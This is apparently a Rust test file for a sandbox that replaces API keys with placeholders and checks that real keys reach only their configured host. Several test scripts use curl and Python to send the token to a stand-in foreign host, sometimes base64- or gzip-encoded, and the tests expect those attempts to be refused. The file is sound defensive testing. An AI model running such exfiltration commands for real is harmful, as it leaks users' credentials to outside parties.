//! Placeholders in real bottles: real clients send what stands in their environment, and it is real at its own host alone.

use std::convert::Infallible;
use std::sync::{Arc, Mutex};

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use bytes::Bytes;
use http_body_util::Full;
use hyper::{Request, Response};
use hyper_util::rt::TokioIo;
use serde_json::Value;

use crate::clients::client;
use crate::world::{Person, REAL_GEMINI_KEY, REAL_KEY, REAL_OPENAI_KEY, Ran, World};
use crate::{Case, case, case_with};

const REASON: &str = "placeholder_misplaced";
/// Every place of a request, at one host; another host has none.
const ROUTES: &str = "\
egress:
  routes:
    - host: notes.example
      credential:
        - {in: header, name: authorization, from: NOTES_TOKEN}
        - {in: query, name: key, from: NOTES_TOKEN, env: NOTES_KEY}
        - {in: basic, name: password, from: NOTES_TOKEN}
        - {in: body, name: client_secret, from: NOTES_TOKEN}
    - host: a.wild.example
";

pub fn cases() -> Vec<Case> {
    let python: &'static [&'static str] = vec![&*client("venv/bin/python").leak()].leak();
    vec![
        case_with("B16 B41 B42 a placeholder is real at its own host alone, with curl", &["curl"], curl),
        case_with("B41 B42 a placeholder is real in its field of form data alone, with curl -F", &["curl"], form_data),
        case_with("B33 B42 a placeholder does not follow a redirect to another host", &["curl"], redirect),
        case_with("B41 B42 a placeholder is real at its own host alone, with Python requests", python, requests),
        case_with("B42 git logs in with a placeholder as its password", &["git"], git),
        case_with(
            "B42 the key of a preset may be a placeholder in its shape, and its model is metered",
            &["curl"],
            preset,
        ),
        case("B42 a placeholder's secret that is missing stops the launch and is named", missing),
        case("B42 each run has a placeholder of its own, check and explain show where it goes", shown),
    ]
}

fn world(person: Person) -> World {
    let world = World::new(person);
    let hook = format!("http://{}/sink?hook", world.provider.addr);
    world.settings(&format!(
        "secrets: {{NOTES_TOKEN: {{env: GEMINI_API_KEY}}}}\nnotify: {{bell: false, webhook: {{url: \"{hook}\"}}}}\n"
    ));
    world.bottle(ROUTES);
    world
}

/// The placeholder as the program printed it first, which has the shape of the real key and nothing else of it.
fn placeholder(ran: &Ran) -> String {
    let fake = ran.stdout.lines().next().unwrap().to_owned();
    assert!(fake.starts_with("AIza") && fake.len() == REAL_GEMINI_KEY.len() && fake != REAL_GEMINI_KEY, "{fake}");
    fake
}

/// The real value went to its host so many times and nowhere else; nothing that was shown or kept has it.
fn only_at_home(world: &World, ran: &Ran, times: usize) {
    let received = world.provider.received();
    let (home, elsewhere): (Vec<_>, Vec<_>) = received.iter().partition(|r| r.authority == "notes.example");
    let basic = STANDARD.encode(format!("me:{REAL_GEMINI_KEY}"));
    let real = |r: &carboy_sim::ReceivedRequest| r.contains(REAL_GEMINI_KEY.as_bytes()) || r.contains(basic.as_bytes());
    assert_eq!(home.iter().filter(|r| real(r)).count(), times, "{received:#?}");
    assert!(!elsewhere.iter().any(|r| real(r)), "{elsewhere:#?}");
    let fake = placeholder(ran);
    assert!(!received.iter().any(|r| r.contains(fake.as_bytes())), "{received:#?}");
    let told = format!("{} {} {} {:?}", ran.stdout, ran.stderr, ran.summary, ran.entries);
    assert!(!told.contains(REAL_GEMINI_KEY) && !told.contains(&basic), "{told}");
    assert!(!format!("{} {:?}", ran.summary, ran.entries).contains(&fake));
}

/// It was refused so often, each time with a warning in the log, and somebody was called.
fn warned(world: &World, ran: &Ran, times: usize) {
    assert_eq!(ran.refused(REASON), times, "{:#?}", ran.entries);
    let warnings =
        ran.entries.iter().filter(|e| e.text("event_type") == Some("security") && e.text("action") == Some(REASON));
    assert_eq!(warnings.count(), times, "{:#?}", ran.entries);
    let posted = world.provider.received().into_iter().filter(|r| r.path == "/sink?hook");
    let posted: Vec<Value> = posted.map(|r| serde_json::from_slice(&r.body).unwrap()).collect();
    let called = posted.iter().find(|body| body["event"] == "placeholder").unwrap_or_else(|| panic!("{posted:?}"));
    // It names the last of the hosts that it went to until somebody looked.
    let text = called["text"].as_str().unwrap();
    assert!(text.starts_with("a placeholder went to ") && text.contains("; carboy explain x-"), "{called}");
}

fn curl(person: Person) {
    let world = world(person);
    let script = "printenv NOTES_TOKEN; test \"$NOTES_KEY\" = \"$NOTES_TOKEN\" && echo same\n\
         n() { curl -sS \"$@\"; echo; }\n\
         n -H \"authorization: Bearer $NOTES_TOKEN\" https://notes.example/echo\n\
         n --http1.1 -H \"authorization: token $NOTES_TOKEN\" https://notes.example/echo\n\
         n \"https://notes.example/echo?key=$NOTES_KEY&x=1\"\n\
         n -u \"me:$NOTES_TOKEN\" https://notes.example/echo\n\
         n -d grant_type=x --data-urlencode \"client_secret=$NOTES_TOKEN\" https://notes.example/echo\n\
         n -H 'content-type: application/json' -d \"{\\\"client_secret\\\": \\\"$NOTES_TOKEN\\\"}\" https://notes.example/echo\n\
         w() { curl -sS -o /dev/null -w '%{http_code} %header{x-carboy-reason}\\n' \"$@\"; }\n\
         w -H \"authorization: Bearer $NOTES_TOKEN\" https://a.wild.example/echo\n\
         w --http1.1 -u \"me:$NOTES_TOKEN\" https://a.wild.example/echo\n\
         w \"https://a.wild.example/echo?key=$NOTES_KEY\"\n\
         w \"https://a.wild.example/$NOTES_KEY\"\n\
         w -d \"x=$NOTES_TOKEN\" https://a.wild.example/sink\n\
         printf '%s' \"$NOTES_TOKEN\" | base64 -w0 | w -d @- https://a.wild.example/sink\n\
         printf '%s' \"$NOTES_TOKEN\" | gzip | w --data-binary @- -H 'content-encoding: gzip' https://a.wild.example/sink\n\
         w -H \"x-other: $NOTES_TOKEN\" https://notes.example/echo";
    let ran = world.sh(script).expect_code(0);
    let fake = placeholder(&ran);
    let lines: Vec<&str> = ran.stdout.lines().collect();
    assert_eq!(lines[1], "same");
    let basic = STANDARD.encode(format!("me:{fake}"));
    for (line, shows) in lines[2..8].iter().zip([&fake, &fake, &fake, &basic, &fake, &fake]) {
        // B41: what the origin says of its request shows what was sent.
        assert!(line.contains(shows.as_str()), "{line}");
    }
    assert_eq!(lines[8..], vec![format!("403 {REASON}"); 8]);
    only_at_home(&world, &ran, 6);
    warned(&world, &ran, 8);
}

fn form_data(person: Person) {
    let world = world(person);
    let script = "printenv NOTES_TOKEN\n\
         yes \"$(printf '\\377\\r--x')\" | head -c 300000 > a.bin; printf %s \"$NOTES_TOKEN\" > key\n\
         n() { curl -sS -F channel=general -F \"client_secret=$NOTES_TOKEN\" \"$@\" https://notes.example/echo; echo; }\n\
         n\n\
         n -F 'client_secret=<key;type=text/plain'\n\
         n --http1.1 -F 'f=@a.bin;filename=\"a b.bin\"' | tail -c 1 | tr -d '\\n'\n\
         n --http1.1 -H 'transfer-encoding: chunked' -F f=@a.bin | tail -c 1 | tr -d '\\n'\n\
         w() { curl -sS -o /dev/null -w '%{http_code} %header{x-carboy-reason}\\n' \"$@\"; }\n\
         w -F note=x -F \"note=$NOTES_TOKEN\" https://notes.example/echo\n\
         w -F client_secret=@key https://notes.example/echo\n\
         w -F \"client_secret=x;filename=$NOTES_TOKEN\" https://notes.example/echo\n\
         w -F \"client_secret=$NOTES_TOKEN;encoder=base64\" https://notes.example/echo\n\
         w -F \"client_secret=$NOTES_TOKEN\" -H 'content-type: multipart/form-data; boundary=other' https://notes.example/echo\n\
         w -F \"client_secret=$NOTES_TOKEN\" https://a.wild.example/echo";
    let ran = world.sh(script).expect_code(0);
    let fake = placeholder(&ran);
    let lines: Vec<&str> = ran.stdout.lines().collect();
    assert!(lines[1].contains(&fake) && lines[2].contains(&fake), "{}", ran.stdout);
    assert_eq!(lines[lines.len() - 6..], vec![format!("403 {REASON}"); 6], "{}", ran.stderr);
    let received: Vec<_> = world.provider.received().into_iter().filter(|r| r.path == "/echo").collect();
    let places = |body: &[u8], text: &[u8]| body.windows(text.len()).filter(|window| *window == text).count();
    let field = |more: &str| format!("name=\"client_secret\"\r\n{more}\r\n{REAL_GEMINI_KEY}\r\n--");
    let file: Vec<u8> = b"\xff\r--x\n".iter().copied().cycle().take(300_000).collect();
    let file = [&b"octet-stream\r\n\r\n"[..], &file, b"\r\n--"].concat();
    let counts = received.iter().map(|one| {
        assert_eq!(one.header("content-length"), Some(one.body.len().to_string().as_str()));
        let typed = places(&one.body, field("Content-Type: text/plain\r\n").as_bytes());
        [places(&one.body, field("").as_bytes()), typed, places(&one.body, &file)]
    });
    assert_eq!(counts.collect::<Vec<_>>(), [[1, 0, 0], [1, 1, 0], [1, 0, 1], [1, 0, 1]]);
    only_at_home(&world, &ran, 4);
    warned(&world, &ran, 6);
}

fn redirect(person: Person) {
    let world = world(person);
    let script = "printenv NOTES_TOKEN\n\
         curl -sS -L --location-trusted -o /dev/null -w '%{http_code} %{url_effective}\\n' \\\n\
           -H \"authorization: Bearer $NOTES_TOKEN\" \\\n\
           'https://notes.example/redirect?to=https%3A%2F%2Fa.wild.example%2Fecho'";
    let ran = world.sh(script).expect_code(0);
    assert!(ran.stdout.ends_with("\n403 https://a.wild.example/echo\n"), "{}", ran.stdout);
    only_at_home(&world, &ran, 1);
    warned(&world, &ran, 1);
}

fn requests(person: Person) {
    let world = world(person);
    let program = "import os, requests\n\
         key = os.environ['NOTES_TOKEN']\n\
         print(key)\n\
         home, other = 'https://notes.example/echo', 'https://a.wild.example/echo'\n\
         for more in [dict(headers={'Authorization': 'Bearer ' + key}), dict(params={'key': key}), dict(auth=('me', key)),\n\
         \x20            dict(data={'client_secret': key}), dict(json={'client_secret': key}),\n\
         \x20            dict(data={'client_secret': key}, files={'f': ('a.bin', b'\\x00\\r\\n--')})]:\n\
         \x20   there = requests.post(home, **more)\n\
         \x20   there.raise_for_status()\n\
         \x20   shown = requests.Request('POST', home, **more).prepare()\n\
         \x20   sent = [shown.path_url, shown.headers.get('Authorization') or '', str(shown.body)]\n\
         \x20   got = there.json()\n\
         \x20   says = [got['path'], dict(map(tuple, got['headers'])).get('authorization', ''), got['body']]\n\
         \x20   assert sent[:2] == says[:2] and key in ''.join(sent + [key]), (sent, says)\n\
         \x20   away = requests.post(other, **more)\n\
         \x20   print(away.status_code, away.headers.get('x-carboy-reason'))\n";
    let ran = world.run(&[&client("venv/bin/python"), "-c", program]).expect_code(0);
    let lines: Vec<&str> = ran.stdout.lines().collect();
    assert_eq!(lines[1..], vec![format!("403 {REASON}"); 6], "{}", ran.stderr);
    only_at_home(&world, &ran, 6);
    warned(&world, &ran, 6);
}

/// A server that asks for a password as git hosts do, and keeps what it was given.
fn asking(world: &World) -> (std::net::SocketAddr, Arc<Mutex<Vec<String>>>) {
    let given = Arc::new(Mutex::new(Vec::new()));
    let kept = given.clone();
    let address = world.block_on(async move {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let address = listener.local_addr().unwrap();
        tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let kept = kept.clone();
                let service = hyper::service::service_fn(move |request: Request<hyper::body::Incoming>| {
                    let kept = kept.clone();
                    async move { Ok::<_, Infallible>(refs(&request, &kept)) }
                });
                tokio::spawn(
                    hyper::server::conn::http1::Builder::new().serve_connection(TokioIo::new(stream), service),
                );
            }
        });
        address
    });
    (address, given)
}

/// `git ls-remote` of an empty repository (gitprotocol-http), for who has a password.
fn refs(request: &Request<hyper::body::Incoming>, kept: &Mutex<Vec<String>>) -> Response<Full<Bytes>> {
    let value = request.headers().get("authorization").and_then(|value| value.to_str().ok());
    let Some(credentials) = value.and_then(|value| value.strip_prefix("Basic ")) else {
        let asks = Response::builder().status(401).header("www-authenticate", "Basic realm=\"git\"");
        return asks.body(Full::default()).unwrap();
    };
    kept.lock().unwrap().push(String::from_utf8(STANDARD.decode(credentials).unwrap()).unwrap());
    let zero = "0".repeat(40);
    let line = format!("{zero} capabilities^{{}}\0agent=test\n");
    let body = format!("001e# service=git-upload-pack\n0000{:04x}{line}0000", line.len() + 4);
    let kind = "application/x-git-upload-pack-advertisement";
    Response::builder().header("content-type", kind).body(Full::from(body)).unwrap()
}

fn git(person: Person) {
    let world = world(person);
    let (address, given) = asking(&world);
    world.settings(&format!(
        "  code.example: {{address: \"{address}\", tls: false}}\nsecrets: {{NOTES_TOKEN: {{env: GEMINI_API_KEY}}}}\n"
    ));
    world.bottle(
        "egress:\n  routes:\n    - host: code.example\n      git: {fetch: true}\n\
         \x20     credential: {in: basic, name: password, from: NOTES_TOKEN, env: GIT_TOKEN}\n    - host: notes.example\n      git: {fetch: true}\n",
    );
    let script = "printenv GIT_TOKEN\n\
         test -z \"$NOTES_TOKEN\" && echo none\n\
         git config --global credential.helper '!f() { echo username=x-access-token; echo password=$GIT_TOKEN; }; f'\n\
         git ls-remote -q https://code.example/repo.git; echo \"read $?\"\n\
         git ls-remote -q \"https://me:$GIT_TOKEN@notes.example/repo.git\" 2>/dev/null; test $? -ne 0 && echo refused";
    let ran = world.sh(script).expect_code(0);
    placeholder(&ran);
    let lines: Vec<&str> = ran.stdout.lines().collect();
    assert_eq!(lines[1..], ["none", "read 0", "refused"], "{}", ran.stderr);
    assert_eq!(*given.lock().unwrap(), [format!("x-access-token:{REAL_GEMINI_KEY}")]);
    assert!(!world.provider.received().iter().any(|r| r.header("authorization").is_some()));
}

fn preset(person: Person) {
    let world = World::new(person);
    world.bottle(
        "presets:\n  - {anthropic: {credential: {from: ANTHROPIC_API_KEY}}}\n  - {openai: {credential: {from: OPENAI_API_KEY, env: MY_KEY}}}\n",
    );
    let script = "printenv ANTHROPIC_API_KEY; printenv MY_KEY; test -z \"$OPENAI_API_KEY\" && echo none\n\
         n() { curl -sS -o /dev/null -w '%{http_code} %header{x-carboy-reason}\\n' -H 'content-type: application/json' \"$@\"; }\n\
         m='\"max_tokens\": 9, \"messages\": [{\"role\": \"user\", \"content\": \"hi\"}]'\n\
         claude() { n -H 'anthropic-version: 2023-06-01' \"$@\" -d \"{\\\"model\\\": \\\"claude-sonnet-4-5\\\", $m}\" https://api.anthropic.com/v1/messages; }\n\
         claude -H \"x-api-key: $ANTHROPIC_API_KEY\"\n\
         n -H \"authorization: Bearer $MY_KEY\" -d \"{\\\"model\\\": \\\"gpt-4o-mini\\\", $m}\" https://api.openai.com/v1/chat/completions\n\
         claude -H \"x-api-key: $MY_KEY\"; claude -H \"x-other: $ANTHROPIC_API_KEY\"";
    let ran = world.sh(script).expect_code(0);
    let lines: Vec<&str> = ran.stdout.lines().collect();
    for (line, real) in lines.iter().zip([REAL_KEY, REAL_OPENAI_KEY]) {
        let prefix = if real == REAL_KEY { "sk-ant-" } else { "sk-" };
        assert!(line.starts_with(prefix) && line.len() == real.len() && *line != real, "{line} {real}");
    }
    // As that provider says that it will not take a request.
    let refused = format!("400 {REASON}");
    assert_eq!(lines[2..], ["none", "200 ", "200 ", &refused, &refused], "{}", ran.stderr);
    let charged = ran.entries.iter().filter(|entry| entry.detail("charged").is_some());
    assert_eq!(charged.count(), 2, "{:#?}", ran.entries);
    assert!(!format!("{} {} {:?}", ran.stdout, ran.stderr, ran.entries).contains(REAL_KEY));
}

fn missing(person: Person) {
    let world = World::new(person);
    world.bottle("egress: {routes: [{host: notes.example, credential: {in: basic, from: NOWHERE_TOKEN}}]}\n");
    let ran = world.run(&["true"]);
    assert_ne!(ran.code, 0);
    assert!(ran.stderr.contains("secret NOWHERE_TOKEN is not defined"), "{}", ran.stderr);
    assert!(ran.entries.is_empty(), "nothing was started: {:?}", ran.entries);
}

fn shown(person: Person) {
    let world = world(person);
    let fakes: Vec<String> =
        (0..2).map(|_| placeholder(&world.run(&["printenv", "NOTES_TOKEN"]).expect_code(0))).collect();
    assert_ne!(fakes[0], fakes[1]);
    // What the person sets by hand for one run is theirs.
    let ran = world.run_with(&["--env", "NOTES_TOKEN=mine"], &["printenv", "NOTES_TOKEN"]).expect_code(0);
    assert_eq!(ran.stdout, "mine\n");
    let ran = world.run_with(&["--env", &format!("NOTES_TOKEN={REAL_GEMINI_KEY}")], &["true"]);
    assert!(ran.code != 0 && ran.stderr.contains("puts a fake there"), "{}", ran.stderr);
    let output = world.carboy(&["check", "--bottle", "test"]).output().unwrap();
    let page = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(page.contains("NOTES_TOKEN in query key for its placeholder in $NOTES_KEY"), "{page}");
    let ran = world.sh("curl -s -H \"x-key: $NOTES_TOKEN\" https://a.wild.example/ >/dev/null").expect_code(0);
    let refused = ran.entries.iter().find(|e| e.detail("reason").and_then(Value::as_str) == Some(REASON)).unwrap();
    let id = refused.detail("refusal").and_then(Value::as_str).unwrap();
    let output = world.carboy(&["explain", id]).output().unwrap();
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(text.contains(REASON) && text.contains("placeholder:NOTES_TOKEN"), "{text}");
    let output = world.carboy(&["allow", id, "--yes"]).output().unwrap();
    assert!(!output.status.success(), "nothing opens it: {}", String::from_utf8_lossy(&output.stdout));
}
